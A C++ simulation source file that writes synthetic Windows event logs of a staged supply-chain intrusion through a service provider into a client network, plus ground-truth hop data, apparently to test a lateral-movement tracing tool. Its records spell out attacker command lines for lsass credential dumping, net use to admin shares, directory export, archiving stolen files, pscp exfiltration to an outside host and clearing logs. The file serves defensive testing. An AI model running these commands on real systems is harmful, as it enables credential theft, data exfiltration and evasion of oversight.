#include "simulate/cloud_hopper.h"

#include <nlohmann/json.hpp>

#include "base/check.h"
#include "simulate/background.h"
#include "simulate/windows_events.h"

namespace hoptrace::simulate {
namespace {

using base::Time;

constexpr std::string_view kMsp = "northwind-msp";
constexpr std::string_view kClient = "acme-foundry";

// A moment of the story: night 1 to 3 (Thursday 10 to Saturday 12 November 2016), minutes and seconds after midnight
// UTC.
Time at(int night, int minute, int second = 0) {
  const auto first = base::parse_time("2016-11-10T00:00:00Z");
  base::check(first.has_value(), "a fixed date parses");
  return {first->ticks + ((night - 1) * 86'400LL + minute * 60LL + second) * Time::kTicksPerSecond};
}

Process shell(std::string image, std::string command_line, std::string parent, std::string user) {
  Process p;
  p.image = std::move(image);
  p.command_line = std::move(command_line);
  p.parent_image = std::move(parent);
  p.parent_command_line = p.parent_image;
  p.user = std::move(user);
  p.integrity = "High";
  p.pid = 2'316;
  p.parent_pid = 1'984;
  p.logon_id = 0x51a2b;
  return p;
}

void add_hosts(FleetLog& fleet) {
  const std::string msp(kMsp), client(kClient);
  fleet.add_host({msp, "ADM07", "nwmsp.example", "NWMSP", "10.10.4.17"});
  fleet.add_host({msp, "JUMP01", "nwmsp.example", "NWMSP", "10.10.1.5"});
  fleet.add_host({msp, "DC01", "nwmsp.example", "NWMSP", "10.10.1.10"});
  fleet.add_host({client, "DC01", "acme.example", "ACME", "10.20.1.10"});
  fleet.add_host({client, "FS01", "acme.example", "ACME", "10.20.1.21"});
  fleet.add_host({client, "WS07", "acme.example", "ACME", "10.20.9.77", true});
}

struct Stage {
  FleetLog& fleet;
  const Host& adm = fleet.host(kMsp, "ADM07");
  const Host& jump = fleet.host(kMsp, "JUMP01");
  const Host& dc = fleet.host(kClient, "DC01");
  const Host& fs = fleet.host(kClient, "FS01");
  const Host& ws = fleet.host(kClient, "WS07");
};

// Night 1: the implant on the administrator's workstation.
void implant(Stage& s) {
  const std::string user = "NWMSP\\k.tanaka";
  const std::string temp = "C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\";
  Process loader = shell(temp + "obedience.exe", "\"" + temp + "obedience.exe\"", "C:\\Windows\\explorer.exe", user);
  loader.original_name = "StarBurn.exe";
  loader.company = "Rocket Division Software";
  s.fleet.write(s.adm, file_created(at(1, 41), loader, temp + "obedience.exe"));
  s.fleet.write(s.adm, file_created(at(1, 41, 1), loader, temp + "starburn.dll"));
  s.fleet.write(s.adm, file_created(at(1, 41, 1), loader, temp + "handkerchief.dat"));
  s.fleet.write(s.adm, process_started(at(1, 41, 2), loader));
  s.fleet.write(s.adm, image_loaded(at(1, 41, 2), loader, temp + "starburn.dll", false, ""));
  Process hollow =
      shell("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\svchost.exe", loader.image, user);
  s.fleet.write(s.adm, process_started(at(1, 41, 4), hollow));
  s.fleet.write(s.adm, pipe_created(at(1, 41, 5), hollow, "\\NamePipe_MoreWindows"));
  s.fleet.write(s.adm, name_queried(at(1, 41, 9), hollow, "ctldl.windowsupdate.fartit.com", "198.51.100.23"));
  s.fleet.write(s.adm, connected(at(1, 41, 10), hollow, s.adm.address, "198.51.100.23", 995, "-"));
}

// Night 2, the provider's side: credentials, then the jump host.
void credentials_and_jump_host(Stage& s) {
  Process dumper = shell("C:\\recovery\\MsMpEng.exe", "C:\\recovery\\MsMpEng.exe", "C:\\Windows\\System32\\cmd.exe",
                         "NWMSP\\k.tanaka");
  s.fleet.write(s.adm, process_started(at(2, 62), dumper));
  s.fleet.write(s.adm, image_loaded(at(2, 62, 1), dumper, "C:\\recovery\\mpsvc.dll", false, ""));
  s.fleet.write(s.adm, process_accessed(at(2, 62, 2), dumper, "C:\\Windows\\System32\\lsass.exe", "0x1010"));
  const Logon rdp{.user = "k.tanaka",
                  .domain = "NWMSP",
                  .address = s.adm.address,
                  .workstation = "JUMP01",
                  .type = 10,
                  .package = "Negotiate",
                  .logon_id = 0x3c1d2e};
  s.fleet.write(s.adm, explicit_logon(at(2, 71), s.adm, "k.tanaka", rdp, "JUMP01.nwmsp.example"));
  s.fleet.write(s.jump, logged_on(at(2, 71, 3), s.jump, rdp));
  s.fleet.write(s.jump, privileges(at(2, 71, 3), rdp));
  s.fleet.write(s.jump, session_opened(at(2, 71, 5), "NWMSP\\k.tanaka", s.adm.address));
}

// Over the border with the provider's account: `net use` from host to host, a few seconds each.
void net_use_burst(Stage& s) {
  const std::string user = "NWMSP\\k.tanaka";
  int second = 0;
  for (const Host* target : {&s.dc, &s.fs, &s.ws}) {
    const std::string share = "\\\\" + target->address + "\\c$";
    Process net = shell("C:\\Windows\\System32\\net.exe", "net use " + share + " /user:ACME\\svc-nwmsp",
                        "C:\\Windows\\System32\\cmd.exe", user);
    const Logon logon{.user = "svc-nwmsp",
                      .domain = "ACME",
                      .address = s.jump.address,
                      .workstation = "JUMP01",
                      .package = "NTLM",
                      .logon_id = 0x7a0000ULL + static_cast<std::uint64_t>(second)};
    s.fleet.write(s.jump, process_started(at(2, 84, second), net));
    s.fleet.write(s.jump, explicit_logon(at(2, 84, second), s.jump, "k.tanaka", logon, target->address));
    s.fleet.write(*target, logged_on(at(2, 84, second + 1), *target, logon));
    s.fleet.write(*target, privileges(at(2, 84, second + 1), logon));
    s.fleet.write(*target, share_opened(at(2, 84, second + 1), logon, "C$"));
    net.command_line = "net use " + share + " /delete";
    s.fleet.write(s.jump, process_started(at(2, 84, second + 6), net));
    s.fleet.write(*target, logged_off(at(2, 84, second + 6), logon));
    second += 15;
  }
}

// On the client: commands through t.vbs and WMI, PlugX as a service, the directory exported.
void on_the_client(Stage& s) {
  const std::string user = "NWMSP\\k.tanaka";
  s.fleet.write(s.jump,
                process_started(at(2, 90), shell("C:\\Windows\\System32\\cscript.exe",
                                                 "cscript.exe //nologo C:\\PerfLogs\\t.vbs /cmd " + s.fs.address +
                                                     " ACME\\svc-nwmsp ***** \"ipconfig /all\"",
                                                 "C:\\Windows\\System32\\cmd.exe", user)));
  const Logon wmi{.user = "svc-nwmsp",
                  .domain = "ACME",
                  .address = s.jump.address,
                  .workstation = "JUMP01",
                  .package = "NTLM",
                  .logon_id = 0x7b1100};
  s.fleet.write(s.fs, logged_on(at(2, 90, 1), s.fs, wmi));
  const Process remote =
      shell("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c ipconfig /all > C:\\Windows\\Temp\\wmi.dll 2>&1",
            "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ACME\\svc-nwmsp");
  s.fleet.write(s.fs, process_started(at(2, 90, 2), remote));
  s.fleet.write(s.fs, process_created(at(2, 90, 2), s.fs, remote));
  s.fleet.write(s.fs, file_created(at(2, 90, 3), remote, "C:\\Windows\\Temp\\wmi.dll"));
  s.fleet.write(s.fs,
                service_installed(at(2, 90, 25), "Corel Writing Tools Utility", "C:\\ProgramData\\SxS\\CorelWT.exe"));
  const Logon on_dc{.user = "svc-nwmsp",
                    .domain = "ACME",
                    .address = s.jump.address,
                    .workstation = "JUMP01",
                    .type = 10,
                    .package = "Negotiate",
                    .logon_id = 0x7c2200};
  s.fleet.write(s.dc, logged_on(at(2, 104), s.dc, on_dc));
  s.fleet.write(s.dc, session_opened(at(2, 104, 2), "ACME\\svc-nwmsp", s.jump.address));
  s.fleet.write(s.dc,
                process_started(at(2, 107), shell("C:\\recovery\\csvde.exe", "csvde -f C:\\windows\\web\\dirlog.log",
                                                  "C:\\Windows\\System32\\cmd.exe", "ACME\\svc-nwmsp")));
}

// Night 3: archives in the recycle bin, out through the provider, and the log cleared.
void theft(Stage& s) {
  const std::string user = "ACME\\svc-nwmsp";
  const std::string bin = "C:\\$Recycle.Bin\\";
  Process rar = shell(bin + "r.exe", "r.exe a -v100m -hp***** " + bin + "d.rar D:\\designs\\*.dwg",
                      "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", user);
  rar.original_name = "Rar.exe";
  rar.company = "Alexander Roshal";
  s.fleet.write(s.fs, process_started(at(3, 95), rar));
  for (const char* part : {"d.part01.rar", "d.part02.rar", "d.part03.rar"}) {
    s.fleet.write(s.fs, file_created(at(3, 97), rar, bin + part));
  }
  s.fleet.write(s.jump, process_started(at(3, 118), shell("C:\\Windows\\System32\\Robocopy.exe",
                                                          "robocopy \\\\" + s.fs.address +
                                                              "\\c$\\$Recycle.Bin C:\\PerfLogs d.part*.rar",
                                                          "C:\\Windows\\System32\\cmd.exe", "NWMSP\\k.tanaka")));
  Process pscp = shell("C:\\recovery\\rundll32.exe",
                       "rundll32.exe -P 22 -pw ***** C:\\PerfLogs\\d.part01.rar sync@198.51.100.77:/tmp/",
                       "C:\\Windows\\System32\\cmd.exe", "NWMSP\\k.tanaka");
  pscp.original_name = "PSCP.EXE";
  pscp.company = "Simon Tatham";
  s.fleet.write(s.jump, process_started(at(3, 131), pscp));
  s.fleet.write(s.jump, connected(at(3, 131, 1), pscp, s.jump.address, "198.51.100.77", 22, "-"));
  s.fleet.write(s.fs, log_cleared(at(3, 160), "svc-nwmsp", "ACME"));
}

nlohmann::ordered_json hop(int night, int minute, std::string_view from, std::string_view to,
                           std::string_view account, std::string_view method) {
  const auto place = [](std::string_view text) {
    const std::size_t slash = text.find('/');
    return nlohmann::ordered_json{{"tenant", text.substr(0, slash)}, {"host", text.substr(slash + 1)}};
  };
  return {{"time", base::iso8601(at(night, minute))},
          {"from", place(from)},
          {"to", place(to)},
          {"account", account},
          {"method", method},
          {"border", from.substr(0, from.find('/')) != to.substr(0, to.find('/'))}};
}

}  // namespace

void play_cloud_hopper(FleetLog& fleet, nlohmann::ordered_json& truth) {
  add_hosts(fleet);
  for (int day = 1; day <= 3; ++day) write_working_day(fleet, at(day, 0));
  Stage stage{fleet};
  implant(stage);
  credentials_and_jump_host(stage);
  net_use_burst(stage);
  on_the_client(stage);
  theft(stage);
  auto hops = nlohmann::ordered_json::array(
      {hop(2, 71, "northwind-msp/ADM07", "northwind-msp/JUMP01", "NWMSP\\k.tanaka", "rdp"),
       hop(2, 84, "northwind-msp/JUMP01", "acme-foundry/DC01", "ACME\\svc-nwmsp", "smb"),
       hop(2, 84, "northwind-msp/JUMP01", "acme-foundry/FS01", "ACME\\svc-nwmsp", "smb"),
       hop(2, 84, "northwind-msp/JUMP01", "acme-foundry/WS07", "ACME\\svc-nwmsp", "smb"),
       hop(2, 90, "northwind-msp/JUMP01", "acme-foundry/FS01", "ACME\\svc-nwmsp", "wmi"),
       hop(2, 104, "northwind-msp/JUMP01", "acme-foundry/DC01", "ACME\\svc-nwmsp", "rdp")});
  truth["intrusions"] = nlohmann::ordered_json::array({{{"id", 1},
                                                        {"patient_zero", {{"tenant", kMsp}, {"host", "ADM07"}}},
                                                        {"origin_tenant", kMsp},
                                                        {"hops", std::move(hops)},
                                                        {"tenants", {kMsp, kClient}},
                                                        {"accounts", {"NWMSP\\k.tanaka", "ACME\\svc-nwmsp"}}}});
}

}  // namespace hoptrace::simulate
